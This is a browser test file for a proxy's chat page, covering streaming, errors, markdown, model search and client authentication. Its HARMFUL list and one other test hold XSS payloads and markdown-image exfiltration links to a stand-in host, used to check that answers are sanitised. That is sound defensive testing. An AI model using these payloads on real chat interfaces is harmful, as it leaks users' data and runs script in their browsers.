"""The chat page in a real browser, served from another origin than the API it calls."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace

import aiohttp
import pytest
from aiohttp import web
from yarl import URL

from keyproxy.clients import credentials
from keyproxy.clients.captcha import Captcha
from keyproxy.demo import page
from keyproxy.demo import upstream as demo_upstream
from keyproxy.server import service
from tests.browser import chromium
from tests.conftest import settings
from tests.fake_upstream import MODELS, FakeUpstream, event_stream
from tests.jwt_issuer import SECRET as JWT_SECRET
from tests.jwt_issuer import signed
from tests.loopback import listening
from tests.siteverify import SECRET as CAPTCHA_SECRET
from tests.siteverify import serving

DEADLINE_SECONDS = 5
LAST_TURN = "document.querySelector('#turns > :last-child')"


@dataclass(frozen=True)
class ProxiedDemo:
    """``base`` is what the page calls; the counts are those of the upstream behind it."""

    base: str
    upstream_base: str
    service: service.Service

    async def calls(self, **wanted: int) -> dict[str, int]:
        """The upstream's counts, once they have reached ``wanted``."""
        url = URL(self.upstream_base).with_path("/demo/calls")
        async with (
            asyncio.timeout(DEADLINE_SECONDS),
            aiohttp.ClientSession() as session,
            session.get(url, params=wanted) as answer,
        ):
            counts: dict[str, int] = await answer.json()
            return counts


def asking(**variables: str) -> pytest.MarkDecorator:
    """Run a test with these settings of the proxy; names without ``KEYPROXY_``."""
    return pytest.mark.parametrize("proxied_demo", [variables], indirect=True, ids=[""])


@pytest.fixture
async def proxied_demo(request: pytest.FixtureRequest) -> AsyncIterator[ProxiedDemo]:
    async with demo_upstream.running() as upstream_base:
        said = {"OPENROUTER_API_KEY": demo_upstream.DEMO_KEY, "UPSTREAM": upstream_base}
        said |= getattr(request, "param", {})
        async with service.running(settings("dev", **said), page.files()) as running:
            yield ProxiedDemo(f"http://{running.addresses[0]}/api/v1", upstream_base, running)


@pytest.fixture
async def page_port() -> AsyncIterator[int]:
    """Where the page is served: loopback, but never the API's port."""
    served = page.files()

    async def serve(request: web.Request) -> web.Response:
        file = served.get(request.path)
        if file is None:
            return web.Response(status=404)
        headers = {**page.HEADERS, "Content-Type": file.content_type}
        return web.Response(body=file.body, headers=headers)

    async with listening(serve) as port:
        yield port


@dataclass(frozen=True)
class Chat:
    """The page, opened and ready."""

    tab: chromium.Tab
    port: int
    demo: ProxiedDemo

    async def open(
        self, *, host: str = "127.0.0.1", base: str | None = None, auth: str = ""
    ) -> None:
        way = f"&auth={auth}" if auth else ""
        await self.tab.go(f"http://{host}:{self.port}/?api={base or self.demo.base}{way}")

    async def choose(self, model: str) -> None:
        await self.tab.wait_for("document.querySelector('#model option[value^=demo]')")
        await self.tab.evaluate(
            f"(() => {{ const model = document.querySelector('#model'); model.value = '{model}';"
            "model.dispatchEvent(new Event('change')); })()"
        )

    async def send(self, text: str) -> None:
        await self.tab.evaluate("document.querySelector('#input').select()")
        await self.tab.write(text)
        await self.tab.press("Enter")

    async def answer(self) -> str:
        """The text of a finished answer."""
        text: str = await self.tab.wait_for(
            f"{LAST_TURN}?.querySelector('.facts:not([hidden])')"
            f" && {LAST_TURN}.querySelector('.text').innerText"
        )
        return text

    async def notice(self) -> str:
        text: str = await self.tab.wait_for(f"{LAST_TURN}?.querySelector('.notice')?.textContent")
        return " ".join(text.split())


@pytest.fixture
def chat(tab: chromium.Tab, page_port: int, proxied_demo: ProxiedDemo) -> Chat:
    return Chat(tab, page_port, proxied_demo)


async def test_answer_arrives_token_by_token(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/chat")
    await chat.tab.evaluate(
        """(() => {
          window.arrivals = [];
          const isText = ({ target }) => target.matches?.(".assistant .text");
          new MutationObserver((changes) => {
            if (changes.some(isText)) window.arrivals.push(performance.now());
          }).observe(document.querySelector("#turns"), { subtree: true, childList: true });
        })()"""
    )
    await chat.send("Schöne Grüße 🙂")
    answer = await chat.answer()
    arrivals = await chat.tab.evaluate("window.arrivals")
    assert "“Schöne Grüße 🙂”" in answer
    assert "Grüße aus Köln, 你好" in answer
    assert len(arrivals) > 20
    assert arrivals[-1] - arrivals[0] > 500
    assert chat.tab.errors == []


async def test_conversation_is_remembered_and_a_new_chat_forgets_it(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    await chat.send("one")
    assert await chat.answer() == "one"
    first = await chat.tab.evaluate(f"{LAST_TURN}.querySelector('.facts').textContent")
    await chat.tab.evaluate("document.querySelector('#new').click()")
    assert await chat.tab.evaluate("document.querySelectorAll('.turn').length") == 0
    await chat.send("two")
    assert await chat.answer() == "two"
    assert "2 tokens (1 in, 1 out)" in first
    assert "2 tokens (1 in, 1 out)" in await chat.tab.evaluate(
        f"{LAST_TURN}.querySelector('.facts').textContent"
    )
    await chat.send("three")
    await chat.tab.wait_for("document.querySelectorAll('.facts:not([hidden])').length === 2")
    assert "4 tokens (3 in, 1 out)" in await chat.tab.evaluate(
        f"{LAST_TURN}.querySelector('.facts').textContent"
    )


@pytest.mark.parametrize("by", ["button", "Escape"])
async def test_stop_reaches_the_upstream(chat: Chat, by: str) -> None:
    await chat.open()
    await chat.choose("demo/long")
    await chat.send("tell me")
    await chat.tab.wait_for(f"{LAST_TURN}?.querySelector('.text').textContent.length > 20")
    if by == "button":
        await chat.tab.evaluate("document.querySelector('#stop').click()")
    else:
        await chat.tab.press(by)
    async with asyncio.timeout(1):
        counts = await chat.demo.calls(aborted=1)
    assert counts == {"open": 0, "finished": 0, "aborted": 1}
    await chat.answer()
    facts = await chat.tab.evaluate(f"{LAST_TURN}.querySelector('.facts').textContent")
    assert facts.startswith("Stopped")


async def test_too_many_requests_counts_down_and_lets_go(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/429")
    await chat.send("hello")
    assert "Too many requests" in await chat.notice()
    label = "document.querySelector('#send').textContent.trim()"
    assert await chat.tab.evaluate("document.querySelector('#send').disabled") is True
    await chat.tab.wait_for(f"/^Send in [1-4] s$/.test({label})")
    await chat.tab.wait_for(f"!document.querySelector('#send').disabled && {label} === 'Send'")
    assert await chat.tab.evaluate("document.querySelector('#input').value") == "hello"
    assert (await chat.demo.calls())["finished"] == 1  # what was typed was not sent again


async def test_failures_are_told_in_words(chat: Chat) -> None:
    titles = {
        "demo/402": "credits are used up",
        "demo/403": "This was refused",
        "demo/500": "Something broke on the way",
        "demo/503": "not available",
        "demo/html": "Something broke on the way",
        "demo/midstream-error": "stopped with an error",
        "demo/cut": "cut off",
    }
    await chat.open()
    for model, title in titles.items():
        await chat.choose(model)
        await chat.send("hello")
        notice = await chat.notice()
        assert title in notice
        assert "<html>" not in notice
        await chat.tab.evaluate("document.querySelector('#new').click()")


async def test_something_else_at_the_address_is_named(chat: Chat) -> None:
    await chat.open(base=f"http://127.0.0.1:{chat.port}/sse.js?")
    assert "This is not the API" in await chat.notice()


async def test_events_are_read_whole_however_the_bytes_are_split(chat: Chat) -> None:
    await chat.open()
    seen = await chat.tab.evaluate(
        r"""(async () => {
          const { readEvents } = await import("/sse.js");
          const bytes = new TextEncoder().encode(
            ": comment\r\n\r\ndata: Grüße 🙂\r\n\r\nevent: x\ndata:a\ndata:  b\n\n" +
            "data: c\r\r: \n\ndata: [DONE]\n\ndata: never whole\n");
          const seen = [];
          for (const size of [1, 2, 3, 7, 1000]) {
            const body = new ReadableStream({
              start(stream) {
                for (let at = 0; at < bytes.length; at += size) {
                  stream.enqueue(bytes.slice(at, at + size));
                }
                stream.close();
              },
            });
            const events = [];
            for await (const event of readEvents(body)) events.push(event);
            seen.push(events);
          }
          return seen;
        })()"""
    )
    assert seen == [["Grüße 🙂", "a\n b", "c", "[DONE]"]] * 5


async def test_refused_origin_is_told_apart_from_a_server_that_is_down(chat: Chat) -> None:
    await chat.open(host="refused.test")
    notice = await chat.notice()
    assert "does not let this page in" in notice
    assert f"KEYPROXY_ALLOWED_ORIGINS=http://refused.test:{chat.port}" in notice

    async with demo_upstream.running() as gone:
        pass
    await chat.open(base=gone)
    notice = await chat.notice()
    assert "cannot be reached" in notice
    assert str(URL(gone).origin()) in notice


async def test_demo_models_are_listed_with_what_they_do(chat: Chat) -> None:
    await chat.open()
    await chat.tab.wait_for("!document.querySelector('#demo').hidden")
    shown = await chat.tab.evaluate("document.querySelector('#demo-models').textContent")
    assert "demo/429" in shown
    assert "Is busy and asks you to come back" in shown
    await chat.tab.evaluate("document.querySelectorAll('#demo-models button')[1].click()")
    assert await chat.tab.evaluate("document.querySelector('#model').value") == "demo/echo"
    assert await chat.tab.evaluate("document.activeElement.id") == "input"
    await chat.open()
    await chat.tab.wait_for("document.querySelector('#model option[value^=demo]')")
    assert await chat.tab.evaluate("document.querySelector('#model').value") == "demo/echo"


async def test_model_text_is_never_markup(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    await chat.send("<img src=x onerror=alert(1)> <b>bold</b>")
    assert await chat.answer() == "<img src=x onerror=alert(1)> <b>bold</b>"
    assert await chat.tab.evaluate("document.querySelectorAll('#turns img, #turns b').length") == 0


MARKDOWN = """# Title

One *two* **three** ~~four~~ `five`
six

- [x] done
3. first
4. second

| a | b |
|---|--:|
| 1 | 2 |

> said

```js
const html = "<b>";
```

[out](https://example.com/x?a=1&b=2) and https://example.org
"""


async def test_answers_are_read_as_markdown(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    await chat.tab.evaluate(f"document.querySelector('#input').value = {json.dumps(MARKDOWN)}")
    await chat.tab.press("Enter")
    await chat.answer()
    html = await chat.tab.evaluate(f"{LAST_TURN}.querySelector('.text').innerHTML")
    for part in (
        "<h3>Title</h3>",
        "<p>One <em>two</em> <strong>three</strong> <del>four</del> <code>five</code><br>six</p>",
        "☑ done",
        '<ol start="3">\n<li>first</li>',
        '<div class="wide" tabindex="0"><table>',
        '<td align="right">2</td>',
        "<blockquote>",
        '<pre tabindex="0"><code>const html = "&lt;b&gt;";',
        'href="https://example.com/x?a=1&amp;b=2"',
    ):
        assert part in html
    links = await chat.tab.evaluate(
        f"[...{LAST_TURN}.querySelectorAll('a')].map((a) => [a.rel, a.target])"
    )
    assert links == [["noopener noreferrer", "_blank"]] * 2
    said = await chat.tab.evaluate("document.querySelector('.user .text').textContent")
    assert said == MARKDOWN.strip(), "what the user wrote stays as it was written"
    assert chat.tab.errors == []


HARMFUL = (
    "![a picture](http://elsewhere.test/?q=secret)",
    '<img src="http://elsewhere.test/?q=secret">',
    "![a](data:image/png;base64,AA==)",
    "[![a](http://elsewhere.test/a)](http://elsewhere.test/b)",
    '<svg><image href="http://elsewhere.test/c"/></svg>',
    '<p style="background: url(http://elsewhere.test/d)">x</p>',
    '<link rel="preload" href="http://elsewhere.test/e">',
    '<form action="http://elsewhere.test"><input name="a"></form>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "<iframe src=http://elsewhere.test></iframe>",
    "<script>alert(1)</script>",
    '<a href="https://example.com" onclick="alert(1)">b</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
)


async def test_nothing_an_answer_holds_is_loaded_or_run(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    for text in HARMFUL:
        await chat.send(text)
        await chat.answer()
        within = f"[...{LAST_TURN}.querySelectorAll('.text *')]"
        kinds = await chat.tab.evaluate(f"[...new Set({within}.map((e) => e.localName))]")
        assert set(kinds) <= {"p", "a", "code"}, text
        links = await chat.tab.evaluate(
            f"[...{LAST_TURN}.querySelectorAll('.text a')].map((a) => a.getAttribute('href'))"
        )
        assert [href for href in links if href and not href.startswith("http")] == []
        others = await chat.tab.evaluate(
            f"{within}.flatMap((e) => [...e.attributes])"
            ".filter(({ name }) => !['href', 'rel', 'target'].includes(name)).length"
        )
        assert others == 0, text
        loaded = await chat.tab.evaluate(
            "performance.getEntriesByType('resource').map((e) => new URL(e.name).hostname)"
        )
        assert set(loaded) == {"127.0.0.1"}, text
        assert chat.tab.errors == []
        await chat.tab.evaluate("document.querySelector('#new').click()")


async def test_what_is_selected_while_an_answer_is_written_stays_selected(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    text = json.dumps("The first block\n\n" + "word " * 60)
    await chat.tab.evaluate(f"document.querySelector('#input').value = {text}")
    await chat.tab.press("Enter")
    await chat.tab.wait_for("document.querySelector('.assistant.writing .text > :nth-child(2)')")
    await chat.tab.evaluate(
        "getSelection().selectAllChildren(document.querySelector('.assistant .text > *'))"
    )
    await chat.answer()
    assert await chat.tab.evaluate("String(getSelection())") == "The first block"


async def test_intro_leaves_when_a_chat_begins_and_a_new_one_brings_it(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    assert not await chat.tab.evaluate("document.querySelector('#intro').hidden")
    await chat.send("one")
    await chat.answer()
    assert await chat.tab.evaluate("document.querySelector('#intro').hidden")
    await chat.tab.evaluate("document.querySelector('#new').click()")
    assert not await chat.tab.evaluate("document.querySelector('#intro').hidden")


async def test_models_of_a_true_upstream_are_chosen_tried_and_awaited(
    tab: chromium.Tab, page_port: int, upstream: FakeUpstream
) -> None:
    """Nothing of the demo is there: a usual model, questions to begin with, and its thinking."""
    thought = asyncio.Event()

    async def answer(request: web.Request) -> web.StreamResponse:
        if request.method == "GET":
            rows = MODELS["data"]
            assert isinstance(rows, list)
            return web.json_response(MODELS | {"data": rows[::-1]})
        response = await event_stream(request)

        async def write(delta: dict[str, str], **more: object) -> None:
            chunk = {"choices": [{"index": 0, "delta": delta, **more}]}
            await response.write(f"data: {json.dumps(chunk)}\n\n".encode())

        await write({"reasoning": "Hm."})
        await thought.wait()
        await write({"content": "**Well**"}, finish_reason="stop")
        usage = {"prompt_tokens": 14, "completion_tokens": 6, "cost": 0.000088}
        await response.write(f"data: {json.dumps({'choices': [], 'usage': usage})}\n\n".encode())
        await response.write(b"data: [DONE]\n\n")
        return response

    upstream.answer = answer
    said = settings("dev", UPSTREAM=upstream.base_url)
    async with service.running(said, page.files()) as running:
        await tab.go(f"http://127.0.0.1:{page_port}/?api=http://{running.addresses[0]}/api/v1")
        await tab.wait_for("!document.querySelector('#starters').hidden")
        assert await tab.evaluate("document.querySelector('#demo').hidden")
        assert await tab.evaluate("document.querySelector('#model').value") == "openai/gpt-4o-mini"
        hint = await tab.evaluate("document.querySelector('#hint').textContent")
        assert hint == "openai/gpt-4o-mini", "half a price is none"
        await tab.evaluate("document.querySelector('#starters button').click()")
        assert "sidecar" in await tab.evaluate("document.querySelector('#input').value")
        await tab.press("Enter")
        await tab.wait_for("document.querySelector('.thinking')")
        thought.set()
        facts = await tab.wait_for(
            f"{LAST_TURN}?.querySelector('.facts:not([hidden])')?.textContent"
        )
        assert "20 tokens" in facts
        assert "$0.000088" in facts
        html = await tab.evaluate(f"{LAST_TURN}.querySelector('.text').innerHTML")
        assert html == "<p><strong>Well</strong></p>"
        assert tab.errors == []


FOUND = "document.querySelector('#find')"
OFFERED = "[...document.querySelector('#model').options].map(({ value }) => value)"
HINT = "document.querySelector('#hint').textContent"


async def test_a_model_is_found_in_a_long_list(
    tab: chromium.Tab, page_port: int, upstream: FakeUpstream
) -> None:
    price = {"prompt": "0.00000015", "completion": "0.0000006"}
    rows = [
        {"id": f"{author}/model-{number}", "name": f"Model {number}", "pricing": price}
        for number in range(20)
        for author in ("google", "openai")
    ]

    async def answer(request: web.Request) -> web.StreamResponse:
        return web.json_response(MODELS | {"data": rows, "total_count": len(rows)})

    upstream.answer = answer
    said = settings("dev", UPSTREAM=upstream.base_url)
    async with service.running(said, page.files()) as running:
        await tab.resize(390, 844)
        await tab.go(f"http://127.0.0.1:{page_port}/?api=http://{running.addresses[0]}/api/v1")
        await tab.wait_for(f"!{FOUND}.hidden")
        assert await tab.evaluate("document.documentElement.scrollWidth") == 390
        first = await tab.evaluate("document.querySelector('#model').value")
        await tab.evaluate(f"{FOUND}.focus()")
        await tab.write("MODEL-7 open")
        assert await tab.evaluate(OFFERED) == [first, "openai/model-7"], "the chosen one stays"
        assert await tab.evaluate(HINT) == "1 of 40 models; Enter takes openai/model-7"
        assert await tab.evaluate("document.querySelector('#announcer').textContent") == (
            await tab.evaluate(HINT)
        )
        await tab.press("Enter")
        assert await tab.evaluate("document.querySelector('#model').value") == "openai/model-7"
        assert await tab.evaluate("document.activeElement.id") == "input"
        assert len(await tab.evaluate(OFFERED)) == 40
        assert await tab.evaluate(HINT) == ("openai/model-7: $0.15 in, $0.60 out / 1M\xa0tokens")
        await tab.evaluate(f"{FOUND}.focus()")
        await tab.write("nobody")
        assert await tab.evaluate(HINT) == "No such model"
        await tab.press("Enter")
        assert await tab.evaluate("document.querySelector('#model').value") == "openai/model-7"
        await tab.press("Escape")
        assert len(await tab.evaluate(OFFERED)) == 40
        assert tab.errors == []


async def test_a_short_list_has_no_search(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    assert await chat.tab.evaluate(f"{FOUND}.hidden") is True


async def test_screen_readers_hear_the_whole_answer_once(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/chat")
    await chat.tab.evaluate(
        """(() => {
          window.heard = [];
          const announcer = document.querySelector("#announcer");
          new MutationObserver(() => window.heard.push(announcer.textContent))
            .observe(announcer, { subtree: true, childList: true, characterData: true });
        })()"""
    )
    await chat.send("hello")
    answer = await chat.answer()
    assert await chat.tab.wait_for("window.heard.length && window.heard") == [answer]


# the four ways to be a client

TOKEN, STORED = credentials.make_token("phone")
ASKING_TOKENS = {"CLIENT_AUTH": "token", "CLIENT_TOKENS": f"phone:{STORED.digest.hex()}"}
OPENED = (
    "performance.getEntriesByType('resource').filter((e) => e.name.endsWith('/session')).length"
)
TOLD = "document.querySelector('#client:not([hidden])')?.textContent.trim()"
FIELD = "document.querySelector('#sign-in:not([hidden])') && document.activeElement.id === 'token'"
PROBLEM = "document.querySelector('#token-problem').textContent"


def user_token(seconds: int = 3600) -> str:
    """A JWT that ends in ``seconds``."""
    now = int(time.time())
    return signed({"sub": "user-1", "aud": "demo", "iat": now - 7200, "exp": now + seconds})


async def enter(chat: Chat, token: str) -> None:
    await chat.tab.wait_for(FIELD)
    await chat.tab.evaluate("document.querySelector('#token').select()")
    await chat.tab.write(token)
    await chat.tab.press("Enter")


def move_clock(demo: ProxiedDemo, seconds: float) -> None:
    """Let the proxy's sessions be older by ``seconds``."""
    sessions = demo.service.kit.opening.sessions
    clock = sessions._clock
    sessions._clock = lambda: clock() + seconds


async def test_without_client_auth_no_credential_is_shown(chat: Chat) -> None:
    await chat.open()
    await chat.tab.wait_for(f"{TOLD}?.includes('without a credential')")
    assert await chat.tab.evaluate(OPENED) == 0
    assert await chat.tab.evaluate("sessionStorage.length") == 0
    assert chat.tab.errors == []


@asking(CLIENT_AUTH="session")
async def test_session_is_opened_without_the_user_noticing(chat: Chat) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    await chat.send("hello")
    assert await chat.answer() == "hello"
    assert await chat.tab.evaluate("document.querySelector('.notice')") is None
    assert "anonymous session" in await chat.tab.evaluate(TOLD)
    assert await chat.tab.evaluate(OPENED) == 1
    await chat.open()  # a reload goes on with the same one
    await chat.choose("demo/echo")
    assert await chat.tab.evaluate(OPENED) == 0


@asking(CLIENT_AUTH="session")
@pytest.mark.parametrize("seconds", [3601, 7200])
async def test_ended_session_is_replaced_without_the_user_noticing(
    chat: Chat, seconds: int
) -> None:
    await chat.open()
    await chat.choose("demo/echo")
    move_clock(chat.demo, seconds)
    await chat.send("hello")
    assert await chat.answer() == "hello"
    assert await chat.tab.evaluate("document.querySelector('.notice')") is None
    assert await chat.tab.evaluate(OPENED) == 2
    assert (await chat.demo.calls())["finished"] == 1


@asking(CLIENT_AUTH="session")
async def test_session_is_renewed_before_its_end_and_after_a_sleep(chat: Chat) -> None:
    """A page wakes up with its clock moved; the old session still serves the first call."""
    await chat.open(auth="session")
    await chat.choose("demo/echo")
    held = "JSON.parse(Object.values(sessionStorage)[0]).token"
    first = await chat.tab.evaluate(held)
    await chat.tab.evaluate(
        "(() => { const now = Date.now; Date.now = () => now() + 3_100_000; })()"
    )
    move_clock(chat.demo, 3100)
    await chat.tab.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    await chat.send("hello")
    assert await chat.answer() == "hello"
    assert await chat.tab.evaluate(OPENED) == 2
    assert await chat.tab.evaluate(held) != first
    assert chat.tab.errors == []  # no call was refused


@asking(CLIENT_AUTH="session")
async def test_parallel_calls_open_one_session(chat: Chat) -> None:
    await chat.open(auth="none")
    count = await chat.tab.evaluate(
        f"""(async () => {{
          const {{ session }} = await import("/client.js");
          const {{ listModels }} = await import("/api.js");
          const source = session("{chat.demo.base}");
          const call = () => listModels("{chat.demo.base}", source);
          await Promise.all(Array.from({{ length: 8 }}, call));
          return {OPENED};
        }})()"""
    )
    assert count == 1


@asking(CLIENT_AUTH="session")
async def test_call_that_is_refused_again_is_not_tried_a_third_time(chat: Chat) -> None:
    await chat.open(auth="none")
    status = await chat.tab.evaluate(
        f"""(async () => {{
          const {{ fetchAs }} = await import("/client.js");
          let asked = 0;
          const source = async () => `Bearer kps_wrong-${{asked++}}`;
          const response = await fetchAs(source, "{chat.demo.base}/models");
          return [response.status, asked];
        }})()"""
    )
    assert status == [401, 2]
    assert await chat.demo.calls() == {"open": 0, "finished": 0, "aborted": 0}


async def test_stop_does_not_wait_for_a_credential(chat: Chat) -> None:
    await chat.open()
    name = await chat.tab.evaluate(
        """(async () => {
          const { fetchAs } = await import("/client.js");
          const controller = new AbortController();
          const never = () => new Promise(() => {});
          const call = fetchAs(never, "/", { signal: controller.signal });
          controller.abort();
          return call.catch((error) => error.name);
        })()"""
    )
    assert name == "AbortError"


@asking(CLIENT_AUTH="jwt", JWT_SECRET=JWT_SECRET, JWT_AUDIENCE="demo")
async def test_a_users_token_is_asked_for_anew_after_it_was_refused(chat: Chat) -> None:
    await chat.open(auth="none")
    count, asked = await chat.tab.evaluate(
        f"""(async () => {{
          const {{ userToken }} = await import("/client.js");
          const {{ listModels }} = await import("/api.js");
          const asked = [];
          const source = userToken(async ({{ isStale }}) => {{
            asked.push(isStale);
            return isStale ? "{user_token()}" : "{user_token(-3600)}";
          }});
          return [(await listModels("{chat.demo.base}", source)).length, asked];
        }})()"""
    )
    assert count > 0
    assert asked == [False, True]


@asking(CLIENT_AUTH="jwt", JWT_SECRET=JWT_SECRET, JWT_AUDIENCE="demo")
async def test_ended_token_of_a_user_is_told_and_a_new_one_taken(chat: Chat) -> None:
    await chat.open()
    await enter(chat, f"Bearer {user_token(-3600)}")
    await chat.tab.wait_for(f"{PROBLEM}.includes('has ended')")
    await enter(chat, user_token())
    await chat.choose("demo/echo")
    await chat.send("hello")
    assert await chat.answer() == "hello"


@asking(CLIENT_AUTH="session")
async def test_captcha_that_is_wanted_is_named_and_a_hook_answers_it(chat: Chat) -> None:
    async with serving() as vendor, aiohttp.ClientSession() as session:
        vendor.hostname = "127.0.0.1"
        running, kit = chat.demo.service, chat.demo.service.kit
        captcha = Captcha("turnstile", CAPTCHA_SECRET, session, url=vendor.url)
        running.assembly.kit = replace(kit, opening=replace(kit.opening, captcha=captcha))
        await chat.open()
        notice = await chat.notice()
        assert "wants a captcha to be solved" in notice
        assert "solveCaptcha" in notice
        count = await chat.tab.evaluate(
            f"""(async () => {{
              const {{ session }} = await import("/client.js");
              const {{ listModels }} = await import("/api.js");
              const solveCaptcha = async () => "made-up.1";
              const source = session("{chat.demo.base}", {{ solveCaptcha }});
              return (await listModels("{chat.demo.base}", source)).length;
            }})()"""
        )
        assert count > 0
        assert [form["response"] for form in vendor.asked] == ["made-up.1"]


@asking(**ASKING_TOKENS)
async def test_token_is_asked_for_and_remembered_until_it_is_forgotten(chat: Chat) -> None:
    await chat.open()
    await enter(chat, "kpt_wrong")
    await chat.tab.wait_for(f"{PROBLEM} === 'That token is not accepted here.'")
    assert await chat.tab.evaluate(FIELD)
    await enter(chat, "Grüße")
    await chat.tab.wait_for(f"{PROBLEM}.includes('no such letters')")
    await enter(chat, TOKEN)
    await chat.choose("demo/echo")
    await chat.send("hello")
    assert await chat.answer() == "hello"

    await chat.open()
    await chat.choose("demo/echo")
    assert await chat.tab.evaluate("document.querySelector('#sign-in').hidden")
    assert TOKEN not in await chat.tab.evaluate("location.href + document.body.outerHTML")
    await chat.tab.evaluate("document.querySelector('#forget').click()")
    await chat.tab.wait_for(FIELD)
    assert await chat.tab.evaluate(PROBLEM) == ""
    assert await chat.tab.evaluate("document.querySelector('#send').disabled")
    assert await chat.tab.evaluate("sessionStorage.length") == 0


@asking(**ASKING_TOKENS)
async def test_token_of_one_server_is_not_shown_to_another(chat: Chat) -> None:
    """A link may name any server in ?api=."""
    await chat.open()
    await enter(chat, TOKEN)
    await chat.choose("demo/echo")
    await chat.open(base=chat.demo.base.replace("127.0.0.1", "localhost.test"), auth="jwt")
    await chat.tab.wait_for(FIELD)


@asking(**ASKING_TOKENS)
async def test_revoked_token_is_asked_for_again_below_the_conversation(chat: Chat) -> None:
    await chat.open(auth="token")
    await enter(chat, TOKEN)
    await chat.choose("demo/echo")
    others = settings("dev", CLIENT_AUTH="token", CLIENT_TOKENS=f"other:{'0' * 64}")
    chat.demo.service.apply(replace(chat.demo.service.settings, client_tokens=others.client_tokens))
    await chat.send("hello")
    assert "does not accept this client" in await chat.notice()
    await chat.tab.wait_for(f"{FIELD} && {PROBLEM}")
    assert await chat.tab.evaluate("document.querySelector('#input').value") == "hello"


async def test_server_without_sessions_is_named_when_one_is_demanded(chat: Chat) -> None:
    await chat.open(auth="session")
    assert "opens no sessions" in await chat.notice()


@asking(CLIENT_AUTH="session")
async def test_page_of_the_proxy_itself_has_a_session(chat: Chat) -> None:
    """Its GET carries no Origin, its POST does."""
    await chat.tab.go(str(URL(chat.demo.base).origin()))
    await chat.choose("demo/echo")
    await chat.send("hello")
    assert await chat.answer() == "hello"
